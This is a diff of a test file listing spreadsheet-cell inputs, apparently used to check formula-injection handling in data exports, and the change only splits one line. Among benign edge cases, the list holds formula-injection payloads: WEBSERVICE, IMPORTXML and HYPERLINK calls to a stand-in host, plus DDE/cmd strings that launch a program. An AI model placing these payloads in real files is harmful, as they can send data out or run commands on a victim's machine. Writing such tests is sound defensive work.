@@ -14,7 +14,8 @@ from tests.exports import packs
 FORMULAS = (
     "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0",
     '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")", "==1", "=", " =1+1", "\t=1+1", "\n=1+1", "one\n=1+1", "'=1+1",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")", "==1", "=", " =1+1", "\t=1+1", "\n=1+1", "one\n=1+1",
+    "'=1+1",
     '"=1+1', '"=1+1"', ";=1+1", ",=1+1", "\uff1d1+1", "+1+1", "+49 30 1234", "-1+1", "-5", "- item",
     "--1", "@SUM(A1)", "@user", "\uff0b1", "\uff0d1", "\uff201", "{=1+1}", "%0A=1+1", "1-2", "1/2",
     "00123", "1e5", "TRUE", "#REF!", "12345678901234567890", "2027-04-12",
